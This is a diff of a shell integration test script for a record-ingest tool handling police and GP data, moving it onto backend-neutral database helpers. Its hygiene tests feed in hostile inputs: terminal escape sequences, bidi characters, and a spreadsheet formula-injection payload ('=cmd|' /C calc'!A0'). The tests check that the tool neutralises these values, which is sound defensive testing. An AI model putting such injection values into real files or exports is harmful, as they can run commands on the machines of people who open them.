@@ -6,8 +6,8 @@ JD=$1 GEN=$2 SRC=$3
 . "$SRC/tests/integration/lib.sh"
 scratch
 SMALL="$SRC/tests/data/bundles/small"
-DB="$SCRATCH/a.db"
-q() { sqlite3 "$DB" "$1"; }
+DB=$(new_store a)
+q() { db_query "$DB" "$1"; }
 
 # --- command line conventions
 "$JD" --help >/dev/null; is $? 0 "joindots --help exits 0"
@@ -65,9 +65,9 @@ is "$(q "SELECT count(*) FROM problem WHERE severity='reject'")" 6 "no duplicate
 mkdir -p "$SCRATCH/twice"
 cp "$SMALL/events_police.csv" "$SCRATCH/twice/events_a.csv"
 cp "$SMALL/events_police.csv" "$SCRATCH/twice/events_b.csv"
-out=$("$JD" ingest --db "$SCRATCH/twice.db" "$SCRATCH/twice" 2>/dev/null)
+out=$("$JD" ingest --db "$(store_at "$SCRATCH/twice.db")" "$SCRATCH/twice" 2>/dev/null)
 echo "$out" | grep -q '^events_b.csv .*skipped: identical'; ok $? "a file identical to an earlier one of the same call is skipped ($out)"
-is "$(sqlite3 "$SCRATCH/twice.db" "SELECT count(*) FROM source_file")" 1 "and recorded once"
+is "$(db_query "$(store_at "$SCRATCH/twice.db")" "SELECT count(*) FROM source_file")" 1 "and recorded once"
 
 # --- a corrected row becomes a new version; the old one is kept
 mkdir -p "$SCRATCH/fix"
@@ -78,7 +78,7 @@ is "$(q "SELECT version FROM event WHERE record_id='IR05-0006'")" 2 "event now a
 is "$(q "SELECT narrative FROM event_history WHERE record_id='IR05-0006'")" 'Theft of bicycle from garden shed.' "old version kept in history"
 
 # --- fatal problems leave the store exactly as it was
-snap() { sqlite3 "$DB" "SELECT (SELECT count(*) FROM event),(SELECT count(*) FROM person_mention),(SELECT count(*) FROM problem),(SELECT count(*) FROM ingest_run),(SELECT count(*) FROM source_file)"; }
+snap() { db_query "$DB" "SELECT (SELECT count(*) FROM event),(SELECT count(*) FROM person_mention),(SELECT count(*) FROM problem),(SELECT count(*) FROM ingest_run),(SELECT count(*) FROM source_file)"; }
 before=$(snap)
 mkdir -p "$SCRATCH/nocol"
 cp "$SMALL/events_csc.csv" "$SCRATCH/nocol/events_a.csv"
@@ -101,47 +101,57 @@ mkdir -p "$SCRATCH/dir/events_x.csv"
 ok $([ $rc -ne 0 ] && echo 0 || echo 1) "unreadable file fails (exit $rc)"
 is "$(snap)" "$before" "store unchanged after unreadable file"
 printf 'not a database at all, just text\n' > "$SCRATCH/bad.db"
-"$JD" ingest --db "$SCRATCH/bad.db" "$SMALL" 2>/dev/null; is $? 1 "a file that is not a database is refused"
+if on_pg; then skip "a file that is not a database is refused" "SQLite-only: a PostgreSQL location is not a file"; else
+"$JD" ingest --db "$SCRATCH/bad.db" "$SMALL" 2>/dev/null; is $? 1 "a file that is not a database is refused"; fi
 
 # --- strict mode
-"$JD" ingest --db "$SCRATCH/s.db" --strict --quiet "$SMALL" >/dev/null 2>&1; is $? 6 "--strict exits 6 when rows were quarantined"
+"$JD" ingest --db "$(store_at "$SCRATCH/s.db")" --strict --quiet "$SMALL" >/dev/null 2>&1; is $? 6 "--strict exits 6 when rows were quarantined"
 
 # --- SIGKILL in the middle loses nothing committed and leaves no half file
 "$GEN" "$SCRATCH/big" 200000 3 7
-K="$SCRATCH/k.db"
+K=$(store_at "$SCRATCH/k.db")
 "$JD" ingest --db "$K" "$SMALL" >/dev/null 2>&1
-kb=$(sqlite3 "$K" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")
+kb=$(db_query "$K" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")
 "$JD" ingest --db "$K" "$SCRATCH/big" >/dev/null 2>&1 &
 pid=$!
 for i in $(seq 1 100); do
   # wait until the transaction has written pages to the WAL
   s=$(stat -c %s "$K-wal" 2>/dev/null || echo 0)
   [ "$s" -gt 4000000 ] && break
+  # on PostgreSQL: until the ingest's open transaction has written rows
+  on_pg && [ "$(db_query "$K" "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND backend_xid IS NOT NULL AND pid <> pg_backend_pid()")" -gt 0 ] && sleep 0.5 && break
   sleep 0.05
 done
 kill -9 $pid 2>/dev/null; wait $pid 2>/dev/null
-ka=$(sqlite3 "$K" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")
+ka=$(db_query "$K" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")
 is "$ka" "$kb" "after SIGKILL the store holds exactly what was committed before"
-is "$(sqlite3 "$K" 'PRAGMA integrity_check')" ok "integrity check passes after SIGKILL"
-is "$(sqlite3 "$K" "SELECT count(*) FROM source_file WHERE name='events.csv'")" 0 "no trace of the half-ingested file"
+if on_pg; then skip "integrity check passes after SIGKILL" "SQLite-only: PRAGMA integrity_check checks the file; PostgreSQL rolls the killed client's transaction back"; else
+is "$(db_query "$K" 'PRAGMA integrity_check')" ok "integrity check passes after SIGKILL"; fi
+is "$(db_query "$K" "SELECT count(*) FROM source_file WHERE name='events.csv'")" 0 "no trace of the half-ingested file"
 "$JD" ingest --db "$K" --quiet "$SCRATCH/big" >/dev/null 2>&1; is $? 0 "the same ingest runs to completion afterwards"
-is "$(sqlite3 "$K" "SELECT count(*) FROM event")" 200011 "all rows present after the re-run"
+is "$(db_query "$K" "SELECT count(*) FROM event")" 200011 "all rows present after the re-run"
 # a load this large drops person_mention_ref and builds it once at the end
-ref_index() { sqlite3 "$1" "SELECT sql FROM sqlite_master WHERE name='person_mention_ref'"; }
+ref_index() { if on_pg; then db_query "$1" "SELECT indexdef FROM pg_indexes WHERE indexname = 'person_mention_ref'" | sed 's/ ON [a-z_]*\./ ON /'
+  else db_query "$1" "SELECT sql FROM sqlite_master WHERE name='person_mention_ref'"; fi; }
 is "$(ref_index "$K")" "$(ref_index "$DB")" "person_mention_ref rebuilt, as the schema defines it"
-is "$(sqlite3 "$K" "SELECT count(*) FROM person_mention INDEXED BY person_mention_ref WHERE agency='police' AND person_ref='N1001'")" \
-   "$(sqlite3 "$K" "SELECT count(*) FROM person_mention NOT INDEXED WHERE agency='police' AND person_ref='N1001'")" "and it finds what a table scan finds"
-is "$(sqlite3 "$K" 'PRAGMA integrity_check')" ok "integrity check passes after the rebuild"
+if on_pg; then
+  skip "and it finds what a table scan finds" "SQLite-only: INDEXED BY is SQLite syntax"
+  skip "integrity check passes after the rebuild" "SQLite-only: PRAGMA integrity_check"
+else
+is "$(db_query "$K" "SELECT count(*) FROM person_mention INDEXED BY person_mention_ref WHERE agency='police' AND person_ref='N1001'")" \
+   "$(db_query "$K" "SELECT count(*) FROM person_mention NOT INDEXED WHERE agency='police' AND person_ref='N1001'")" "and it finds what a table scan finds"
+is "$(db_query "$K" 'PRAGMA integrity_check')" ok "integrity check passes after the rebuild"
+fi
 # a fatal problem after the person files (a NUL in objects.csv): all rolled back, index too
 mkdir -p "$SCRATCH/late"
 cp "$SCRATCH/big/events.csv" "$SCRATCH/big/persons.csv" "$SCRATCH/late/"
 { head -1000 "$SCRATCH/big/objects.csv"; printf 'police,R1,phone,\0\n'; } > "$SCRATCH/late/objects.csv"
-N="$SCRATCH/n.db"
+N=$(store_at "$SCRATCH/n.db")
 "$JD" ingest --db "$N" --quiet "$SMALL" >/dev/null 2>&1
-nb=$(sqlite3 "$N" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")
+nb=$(db_query "$N" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")
 "$JD" ingest --db "$N" --quiet "$SCRATCH/late" >/dev/null 2>"$SCRATCH/err"; rc=$?
 [ "$rc" -ne 0 ]; ok $? "a NUL byte late in the run is fatal (exit $rc)"
-is "$(sqlite3 "$N" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")" "$nb" "nothing of it is stored"
+is "$(db_query "$N" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")" "$nb" "nothing of it is stored"
 is "$(ref_index "$N")" "$(ref_index "$DB")" "the dropped index is back after the rollback"
 
 # --- the demo runs end to end from the bundle compiled into the program
@@ -172,7 +182,7 @@ diff -r -q "$SCRATCH/s1" "$SCRATCH/s2" >/dev/null; ok $? "synth: same seed, same
 # --- export identities: every person_ref in exactly one line
 "$JD" export identities --db "$DB" > "$SCRATCH/ids.jsonl" 2>/dev/null; is $? 0 "export identities exits 0"
 is "$(grep -o '"person_ref":"[^"]*"' "$SCRATCH/ids.jsonl" | sort | uniq -d | wc -l)" 0 "no person_ref twice"
-is "$(wc -l < "$SCRATCH/ids.jsonl")" "$(q 'SELECT count(*) FROM (SELECT DISTINCT agency, person_ref FROM person_mention)')" "one line per person_ref before resolution"
+is "$(wc -l < "$SCRATCH/ids.jsonl")" "$(q 'SELECT count(*) FROM (SELECT DISTINCT agency, person_ref FROM person_mention) AS t')" "one line per person_ref before resolution"
 grep -q '"person_ref":"N1001"' "$SCRATCH/ids.jsonl"; ok $? "identity lines name their refs"
 
 # --- link decisions and chronology
@@ -188,11 +198,14 @@ is "$("$JD" chronology --db "$DB" police:N1001 --format json --as-of 2005-04-01 
 # --- row hashes: a new store uses the fast hash; a store that held rows before
 # migration 7 keeps FNV-1a, so its stored hashes still match a re-read
 is "$(q "SELECT value FROM meta WHERE key='row_hash'")" wyhash64 "a new store hashes rows with wyhash64"
-is "$(q 'PRAGMA foreign_key_check' | wc -l)" 0 "ingest left no dangling reference (foreign keys not checked per row)"
+if on_pg; then # the ingest tables declare no foreign keys on PostgreSQL (docs/postgres.md): ask
+  is "$(q 'SELECT (SELECT count(*) FROM person_mention m WHERE NOT EXISTS (SELECT 1 FROM event e WHERE e.id = m.event_id)) + (SELECT count(*) FROM object_mention o WHERE NOT EXISTS (SELECT 1 FROM event e WHERE e.id = o.event_id))')" 0 "ingest left no dangling reference (foreign keys not checked per row)"
+else
+is "$(q 'PRAGMA foreign_key_check' | wc -l)" 0 "ingest left no dangling reference (foreign keys not checked per row)"; fi
 fnv_check() { # DB -> number of events whose stored hash is the FNV-1a of their fields
   python3 - "$1" <<'PY'
-import sqlite3, sys
-db = sqlite3.connect(sys.argv[1])
+import jdq, sys
+db = jdq.connect(sys.argv[1])
 cols = ("agency, record_id, event_type, event_type_raw, occurred_at, occurred_prec, reported_at,"
         " reported_prec, location, postcode, postcode_raw, narrative, crime_recorded, crime_ref,"
         " outcome, author_role, risk_grade, hash")
@@ -214,25 +227,25 @@ print(n)
 PY
 }
 is "$(fnv_check "$DB")" 0 "wyhash64 store: no FNV-1a hashes"
-L="$SCRATCH/legacy.db"
+L=$(store_at "$SCRATCH/legacy.db")
 "$JD" ingest --db "$L" "$SCRATCH/nocol" 2>/dev/null # fatal: leaves an empty store
-sqlite3 "$L" "UPDATE meta SET value='fnv1a64' WHERE key='row_hash'"
+db_query "$L" "UPDATE meta SET value='fnv1a64' WHERE key='row_hash'"
 "$JD" ingest --db "$L" "$SMALL" >/dev/null 2>&1
-is "$(fnv_check "$L")" "$(sqlite3 "$L" 'SELECT count(*) FROM event')" "fnv1a64 store: every event hash is FNV-1a of its fields"
+is "$(fnv_check "$L")" "$(db_query "$L" 'SELECT count(*) FROM event')" "fnv1a64 store: every event hash is FNV-1a of its fields"
 out=$("$JD" ingest --db "$L" --reread "$SMALL" 2>/dev/null)
 echo "$out" | grep -q 'updated 0, unchanged 26'; ok $? "fnv1a64 store: re-read finds everything unchanged ($out)"
 out=$("$JD" ingest --db "$L" "$SCRATCH/fix" 2>/dev/null)
 echo "$out" | grep -q 'updated 1, unchanged 6'; ok $? "fnv1a64 store: corrected row updated ($out)"
-sqlite3 "$L" "UPDATE meta SET value='md5' WHERE key='row_hash'"
-lbefore=$(sqlite3 "$L" 'SELECT count(*) FROM ingest_run')
+db_query "$L" "UPDATE meta SET value='md5' WHERE key='row_hash'"
+lbefore=$(db_query "$L" 'SELECT count(*) FROM ingest_run')
 "$JD" ingest --db "$L" --reread "$SMALL" 2>"$SCRATCH/err"; is $? 1 "an unknown row hash is refused"
 grep -q "row hash 'md5' is unknown" "$SCRATCH/err"; ok $? "and named"
-is "$(sqlite3 "$L" 'SELECT count(*) FROM ingest_run')" "$lbefore" "nothing written"
+is "$(db_query "$L" 'SELECT count(*) FROM ingest_run')" "$lbefore" "nothing written"
 
 # --- issue 19: hand-made bad bundles (input hygiene at ingest)
 H="$SCRATCH/h19"; mkdir -p "$H"
-hq() { sqlite3 "$H/$1.db" "$2"; }
-hrej() { "$JD" rejects --db "$H/$1.db" --warnings 2>/dev/null; }
+hq() { db_query "$(store_at "$H/$1.db")" "$2"; }
+hrej() { "$JD" rejects --db "$(store_at "$H/$1.db")" --warnings 2>/dev/null; }
 
 # item 10: a row's agency is tied to a file whose name gives one
 mkdir -p "$H/gp1" "$H/pol1" "$H/mixed1"
@@ -240,8 +253,8 @@ printf 'agency,record_id,event_type,occurred_at,narrative\ngp,GP0000001,gp_note,
 printf 'agency,record_id,person_ref,role,surname\ngp,GP0000001,G1,subject,Smith\n' > "$H/gp1/persons_gp.csv"
 printf 'agency,record_id,event_type,occurred_at,narrative\npolice,IR1,missing_report,2005-06-02,Missing.\ngp,GP0000001,gp_note,2005-06-01,Rewritten by the police file.\nPOLICE,IR2,stop_check,2005-06-03,Upper case agency is the same agency.\n' > "$H/pol1/events_police.csv"
 printf 'agency,record_id,person_ref,role,surname\npolice,IR1,N1,subject,Jones\ngp,GP0000001,G1,subject,Rewritten\n' > "$H/pol1/persons_police.csv"
-"$JD" ingest --db "$H/a10.db" "$H/gp1" >/dev/null 2>&1
-"$JD" ingest --db "$H/a10.db" "$H/pol1" >/dev/null 2>&1; is $? 0 "item 10: a bundle with a gp row in events_police.csv still ingests"
+"$JD" ingest --db "$(store_at "$H/a10.db")" "$H/gp1" >/dev/null 2>&1
+"$JD" ingest --db "$(store_at "$H/a10.db")" "$H/pol1" >/dev/null 2>&1; is $? 0 "item 10: a bundle with a gp row in events_police.csv still ingests"
 is "$(hq a10 "SELECT narrative||'|'||version FROM event WHERE agency='gp' AND record_id='GP0000001'")" 'Seen for a cough.|1' "item 10: the gp row in events_police.csv did not rewrite GP0000001"
 is "$(hq a10 "SELECT surname FROM person_mention WHERE agency='gp' AND person_ref='G1'")" Smith "item 10: nor did the gp row in persons_police.csv"
 is "$(hq a10 "SELECT count(*) FROM event WHERE agency='police'")" 2 "item 10: the file's own rows are stored (agency compared case-insensitively)"
@@ -249,47 +262,47 @@ hrej a10 | grep -q "^events_police.csv:3:1: reject: agency: agency is not 'polic
 hrej a10 | grep -q "^persons_police.csv:3:1: reject: agency: agency is not 'police'"; ok $? "item 10: persons files too"
 printf 'agency,record_id,event_type,occurred_at\npolice,IR7,missing_report,2005-06-02\ncsc,CS7,referral,2005-06-02\n' > "$H/mixed1/events_police_csc.csv"
 printf 'agency,record_id,event_type,occurred_at\nhousing,HO7,other,2005-06-02\ngp,GP7,gp_note,2005-06-02\n' > "$H/mixed1/events_other.csv"
-"$JD" ingest --db "$H/m10.db" "$H/mixed1" >/dev/null 2>&1
+"$JD" ingest --db "$(store_at "$H/m10.db")" "$H/mixed1" >/dev/null 2>&1
 is "$(hq m10 "SELECT count(*) FROM event")" 4 "item 10: a name giving two agencies, or 'other', ties no agency"
 hrej m10 | grep -q "^events_police_csc.csv:1: warning: the file name gives several agencies"; ok $? "item 10: and a name giving two agencies says so"
 
 # item 11: only regular files are read; never a hang (timeout: a regression fails, it does not hang)
-snap11() { sqlite3 "$H/a11.db" "SELECT (SELECT count(*) FROM event),(SELECT count(*) FROM ingest_run),(SELECT count(*) FROM source_file)"; }
-"$JD" ingest --db "$H/a11.db" "$SMALL" >/dev/null 2>&1
+snap11() { db_query "$(store_at "$H/a11.db")" "SELECT (SELECT count(*) FROM event),(SELECT count(*) FROM ingest_run),(SELECT count(*) FROM source_file)"; }
+"$JD" ingest --db "$(store_at "$H/a11.db")" "$SMALL" >/dev/null 2>&1
 b11=$(snap11)
 mkdir -p "$H/fifo" "$H/zero" "$H/dirs/events_x.csv" "$H/link"
 cp "$SMALL/events_police.csv" "$H/fifo/events_a.csv"
 mkfifo "$H/fifo/events_b.csv"
 ln -s /dev/zero "$H/zero/events.csv"
 cp "$SMALL/events_police.csv" "$H/link/real.txt"; ln -s real.txt "$H/link/events.csv"
-timeout 20 "$JD" ingest --db "$H/a11.db" "$H/fifo" >/dev/null 2>"$H/err"; rc=$?
+timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/fifo" >/dev/null 2>"$H/err"; rc=$?
 is $rc 3 "item 11: a FIFO named events_b.csv in a bundle: fatal (3), no hang"
 grep -q "events_b.csv: not a regular file (a FIFO): refused before reading" "$H/err"; ok $? "item 11: the error names the file and says FIFO ($(head -c 200 "$H/err"))"
-timeout 20 "$JD" ingest --db "$H/a11.db" "$H/zero" >/dev/null 2>"$H/err"; rc=$?
+timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/zero" >/dev/null 2>"$H/err"; rc=$?
 is $rc 3 "item 11: a symlink to /dev/zero in a bundle: fatal (3), no hang"
 grep -q "events.csv: not a regular file (a symbolic link)" "$H/err"; ok $? "item 11: links inside a bundle folder are refused"
-timeout 20 "$JD" ingest --db "$H/a11.db" "$H/link" >/dev/null 2>"$H/err"; is $? 3 "item 11: even a link to a regular file inside a bundle folder"
-timeout 20 "$JD" ingest --db "$H/a11.db" "$H/zero/events.csv" >/dev/null 2>"$H/err"; rc=$?
+timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/link" >/dev/null 2>"$H/err"; is $? 3 "item 11: even a link to a regular file inside a bundle folder"
+timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/zero/events.csv" >/dev/null 2>"$H/err"; rc=$?
 is $rc 3 "item 11: /dev/zero through a link given as the bundle: fatal (3), no hang"
 grep -q "this is neither" "$H/err"; ok $? "item 11: and says it is not a regular file"
-timeout 20 "$JD" ingest --db "$H/a11.db" "$H/fifo/events_b.csv" >/dev/null 2>&1; is $? 3 "item 11: a FIFO given as the bundle: fatal (3)"
-timeout 20 "$JD" ingest --db "$H/a11.db" "$H/dirs" >/dev/null 2>"$H/err"; is $? 3 "item 11: a directory named events_x.csv: fatal (3)"
+timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/fifo/events_b.csv" >/dev/null 2>&1; is $? 3 "item 11: a FIFO given as the bundle: fatal (3)"
+timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/dirs" >/dev/null 2>"$H/err"; is $? 3 "item 11: a directory named events_x.csv: fatal (3)"
 grep -q "events_x.csv: not a regular file (a directory)" "$H/err"; ok $? "item 11: the directory is named"
-timeout 20 "$JD" ingest --db "$H/a11.db" --mapping "$H/fifo/events_b.csv" "$SMALL/events_police.csv" >/dev/null 2>&1; is $? 3 "item 11: a FIFO as the mapping file: fatal (3)"
+timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" --mapping "$H/fifo/events_b.csv" "$SMALL/events_police.csv" >/dev/null 2>&1; is $? 3 "item 11: a FIFO as the mapping file: fatal (3)"
 is "$(snap11)" "$b11" "item 11: the store is unchanged by every refused run"
 
 # input hygiene: control, bidi and zero-width characters removed, kept in the raw row, reported
 mkdir -p "$H/hyg"
 printf 'agency,record_id,event_type,occurred_at,location,narrative\npolice,IRH1,concern_report,2005-06-01,Cowley\x1b[2J Road,"Line one\nline two\twith a tab\x07"\n' > "$H/hyg/events_police.csv"
 printf 'agency,record_id,person_ref,role,surname,forenames,known_as,address\npolice,IRH1,N\xe2\x80\x8b77,subject,Sm\xe2\x80\x8bith,\xe2\x80\xaeeikaK\xe2\x80\xac,\xef\xbb\xbfKat\xe2\x81\xa0ie,"1 High St\nOxford"\npolice,IRH1,N78,suspect,\xe2\x81\xa6Khan\xe2\x81\xa9,Mo\xc2\x85hammed,\xe2\x80\x8b,\n' > "$H/hyg/persons_police.csv"
-"$JD" ingest --db "$H/hy.db" "$H/hyg" >/dev/null 2>&1; is $? 0 "hygiene: the bundle ingests"
+"$JD" ingest --db "$(store_at "$H/hy.db")" "$H/hyg" >/dev/null 2>&1; is $? 0 "hygiene: the bundle ingests"
 is "$(hq hy "SELECT surname||'|'||forenames||'|'||known_as||'|'||person_ref||'|'||address FROM person_mention WHERE role='subject'")" 'Smith|eikaK|Katie|N77|1 High St Oxford' "hygiene: zero-width, bidi and BOM removed from names and refs; a line break in an address is a space"
 is "$(hq hy "SELECT surname||'|'||forenames||'|'||coalesce(known_as,'absent') FROM person_mention WHERE role='suspect'")" 'Khan|Mo hammed|absent' "hygiene: isolates removed, NEL a space, a value of only invisible characters is absent"
-is "$(hq hy "SELECT hex(location) FROM event WHERE record_id='IRH1'")" "$(printf 'Cowley[2J Road' | od -An -tx1 | tr -d ' \n' | tr a-f A-F)" "hygiene: the escape character is removed from a location"
+is "$(hq hy "SELECT $(sql_hex location) FROM event WHERE record_id='IRH1'")" "$(printf 'Cowley[2J Road' | od -An -tx1 | tr -d ' \n' | tr a-f A-F)" "hygiene: the escape character is removed from a location"
 is "$(hq hy "SELECT narrative FROM event WHERE record_id='IRH1'")" "$(printf 'Line one\nline two\twith a tab')" "hygiene: a narrative keeps its line breaks and tabs, loses the bell"
 is "$(hrej hy | grep -c ': warning: .*removed .* (the raw row keeps them)')" 8 "hygiene: one warning per changed field (location, narrative; person_ref, surname, forenames, known_as; surname, known_as)"
 hrej hy | grep -q "^persons_police.csv:2:6: warning: forenames: removed 2 bidirectional control characters"; ok $? "hygiene: the warning names file, line, column, field and what was removed"
-"$JD" rejects --db "$H/hy.db" --warnings --format json 2>/dev/null | grep 'forenames: \|"field":"forenames"' | grep -q '"raw":"police,IRH1,N\\u200B77,subject,Sm\\u200Bith,\\u202EeikaK\\u202C'; ok $? "hygiene: the raw row of the warning keeps the characters verbatim"
+"$JD" rejects --db "$(store_at "$H/hy.db")" --warnings --format json 2>/dev/null | grep 'forenames: \|"field":"forenames"' | grep -q '"raw":"police,IRH1,N\\u200B77,subject,Sm\\u200Bith,\\u202EeikaK\\u202C'; ok $? "hygiene: the raw row of the warning keeps the characters verbatim"
 hrej hy | grep -q 'Cowley\\x1B\[2J Road'; ok $? "hygiene: rejects shows control characters of a raw row escaped, not raw to the terminal"
 
 # dates: future dates, date of birth after the event, the hours the clocks change (UK)
@@ -320,21 +333,21 @@ police,S0,P5,subject,2005-03-28
 police,S0,P6,subject,2005-03
 police,D1,P7,subject,2010
 CSV
-"$JD" ingest --db "$H/d.db" --now 2010-01-01T12:00 "$H/dates" >/dev/null 2>&1; is $? 0 "dates: the bundle ingests"
-is "$(hq d "SELECT group_concat(record_id) FROM (SELECT record_id FROM event WHERE record_id LIKE 'D%' ORDER BY record_id)")" D1 "dates: an hour after the ingest time is within the tolerance (2 h); three hours or a reported_at 2.5 h later is not"
+"$JD" ingest --db "$(store_at "$H/d.db")" --now 2010-01-01T12:00 "$H/dates" >/dev/null 2>&1; is $? 0 "dates: the bundle ingests"
+is "$(hq d "SELECT $(sql_list record_id) FROM (SELECT record_id FROM event WHERE record_id LIKE 'D%' ORDER BY record_id) AS t")" D1 "dates: an hour after the ingest time is within the tolerance (2 h); three hours or a reported_at 2.5 h later is not"
 hrej d | grep -q '^events_police.csv:3:4: reject: occurred_at: occurred_at is in the future: after the time of this ingest plus the tolerance of 2 h'; ok $? "dates: a future occurred_at is quarantined with its reason"
 hrej d | grep -q '^events_police.csv:4:5: reject: reported_at: reported_at is in the future'; ok $? "dates: a future reported_at too"
-"$JD" ingest --db "$H/d0.db" --now 2010-01-01T12:00 --future-tolerance 0 "$H/dates" >/dev/null 2>&1
+"$JD" ingest --db "$(store_at "$H/d0.db")" --now 2010-01-01T12:00 --future-tolerance 0 "$H/dates" >/dev/null 2>&1
 is "$(hq d0 "SELECT count(*) FROM event WHERE record_id LIKE 'D%'")" 0 "dates: --future-tolerance 0 quarantines even an hour ahead"
-"$JD" ingest --db "$H/d1.db" --now 2010-01-01T12:00 --future-tolerance 1d "$H/dates" >/dev/null 2>&1
+"$JD" ingest --db "$(store_at "$H/d1.db")" --now 2010-01-01T12:00 --future-tolerance 1d "$H/dates" >/dev/null 2>&1
 is "$(hq d1 "SELECT count(*) FROM event WHERE record_id LIKE 'D%'")" 3 "dates: --future-tolerance 1d accepts them all"
-"$JD" ingest --db "$H/dx.db" --future-tolerance 2x "$H/dates" >/dev/null 2>&1; is $? 2 "dates: a bad tolerance is a usage error"
-is "$(hq d "SELECT group_concat(person_ref) FROM (SELECT person_ref FROM person_mention ORDER BY person_ref)")" 'P1,P6,P7' "dates: born on the event's day or in its month/year is fine"
+"$JD" ingest --db "$(store_at "$H/dx.db")" --future-tolerance 2x "$H/dates" >/dev/null 2>&1; is $? 2 "dates: a bad tolerance is a usage error"
+is "$(hq d "SELECT $(sql_list person_ref) FROM (SELECT person_ref FROM person_mention ORDER BY person_ref) AS t")" 'P1,P6,P7' "dates: born on the event's day or in its month/year is fine"
 hrej d | grep -q '^persons_police.csv:3:5: reject: dob: dob is in the future: after the date of this ingest'; ok $? "dates: a dob the day after the ingest date is quarantined as future"
 is "$(hrej d | grep -c '^persons_police.csv:[345]:5: reject: dob: dob is in the future')" 3 "dates: so are a dob month and a dob year after it"
 hrej d | grep -q '^persons_police.csv:6:5: reject: dob: dob is after the date of the event'; ok $? "dates: a dob the day after an event at 00:59 is quarantined"
-is "$(hq d "SELECT group_concat(occurred_at) FROM (SELECT occurred_at FROM event WHERE record_id LIKE 'S%' ORDER BY record_id)")" '1111885140,1111885200,1111888740,1111885200' "dates: spring edges: 00:59 GMT; 01:00 and 01:59 (do not exist) read as GMT; 02:00 is BST"
-is "$(hq d "SELECT group_concat(occurred_at) FROM (SELECT occurred_at FROM event WHERE record_id LIKE 'A%' ORDER BY record_id)")" '1130630340,1130630400,1130633940,1130637600,1130635800,1130626800' "dates: autumn edges: 00:59 BST; 01:00 and 01:59 (twice) read as BST, the earlier; 02:00 GMT; +00:00 honoured"
+is "$(hq d "SELECT $(sql_list occurred_at) FROM (SELECT occurred_at FROM event WHERE record_id LIKE 'S%' ORDER BY record_id) AS t")" '1111885140,1111885200,1111888740,1111885200' "dates: spring edges: 00:59 GMT; 01:00 and 01:59 (do not exist) read as GMT; 02:00 is BST"
+is "$(hq d "SELECT $(sql_list occurred_at) FROM (SELECT occurred_at FROM event WHERE record_id LIKE 'A%' ORDER BY record_id) AS t")" '1130630340,1130630400,1130633940,1130637600,1130635800,1130626800' "dates: autumn edges: 00:59 BST; 01:00 and 01:59 (twice) read as BST, the earlier; 02:00 GMT; +00:00 honoured"
 is "$(hrej d | grep -c 'in the hour skipped when the clocks went forward')" 2 "dates: each time in the spring gap has a warning"
 is "$(hrej d | grep -c 'in the hour repeated when the clocks went back: read as its first (BST) occurrence, the earlier instant')" 2 "dates: each ambiguous autumn time has a warning; an explicit offset or a date alone none"
 hrej d | grep -q '^events_police.csv:6:4: warning: occurred_at: occurred_at is a UK local time in the hour skipped'; ok $? "dates: the warning names file, line and field"
@@ -354,15 +367,15 @@ police,K1,N1,subject,Smith
 police,K1,N1,subject,Smyth
 police,K1,N1,witness,Smith
 CSV
-out=$("$JD" ingest --db "$H/dup.db" "$H/dup" 2>/dev/null)
+out=$("$JD" ingest --db "$(store_at "$H/dup.db")" "$H/dup" 2>/dev/null)
 is "$(hq dup "SELECT narrative||'|'||version FROM event WHERE record_id='K1'")" 'First version.|1' "duplicate record_id: the first row of the file is kept, not replaced"
 hrej dup | grep -q '^events_police.csv:4:2: reject: record_id: the agency and record_id of line 2 of this file again, with other content: line 2 is kept, this row is not'; ok $? "duplicate record_id: the second is quarantined naming both lines"
 hrej dup | grep -q '^events_police.csv:5:2: warning: record_id: repeats line 3 of this file'; ok $? "an identical repeated row is a warning, stored once"
 is "$(hq dup "SELECT count(*) FROM event_history")" 0 "duplicate record_id: no history row (nothing overwritten)"
-is "$(hq dup "SELECT group_concat(surname||':'||role) FROM person_mention")" 'Smith:subject,Smith:witness' "duplicate person row: the first is kept; another role is another mention"
+is "$(hq dup "SELECT $(sql_list "surname||':'||role") FROM person_mention")" 'Smith:subject,Smith:witness' "duplicate person row: the first is kept; another role is another mention"
 hrej dup | grep -q '^persons_police.csv:3:3: reject: person_ref: the agency, record_id, person_ref and role of line 2 of this file again'; ok $? "duplicate person row quarantined naming both lines"
 echo "$out" | grep -q 'total: read 7, stored 4, updated 0, unchanged 1, rejected 2'; ok $? "duplicates counted: one unchanged, two rejected ($out)"
-out=$("$JD" ingest --db "$H/dup.db" --reread "$H/dup" 2>/dev/null)
+out=$("$JD" ingest --db "$(store_at "$H/dup.db")" --reread "$H/dup" 2>/dev/null)
 echo "$out" | grep -q 'total: read 7, stored 0, updated 0, unchanged 5, rejected 2'; ok $? "a re-read of the same file changes nothing: the first row still wins ($out)"
 is "$(hq dup "SELECT narrative||'|'||version FROM event WHERE record_id='K1'")" 'First version.|1' "duplicate record_id: still the first version after the re-read"
 
@@ -375,17 +388,17 @@ R2,police,other,2005-01-02,  =1+1,	=tab first,-5
 =cmd|' /C calc'!A0,police,other,2005-13-01,x,y,z
 CSV
 printf 'agency,record_id,person_ref,role,surname\npolice,-2+3,N9,subject,Smith\npolice,R2,N9,subject,Smith\n' > "$H/inj/persons_police.csv"
-"$JD" ingest --db "$H/inj.db" "$H/inj" >/dev/null 2>&1
+"$JD" ingest --db "$(store_at "$H/inj.db")" "$H/inj" >/dev/null 2>&1
 csv_safe() { python3 -c '
 import csv, sys
 bad = [f for row in csv.reader(sys.stdin) for f in row if f.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r") and not f.lstrip(" +-").replace(".", "", 1).isdigit()]
 print(len(bad), bad[:3])'; }
-"$JD" chronology --db "$H/inj.db" police:N9 --format csv > "$H/chrono.csv" 2>/dev/null
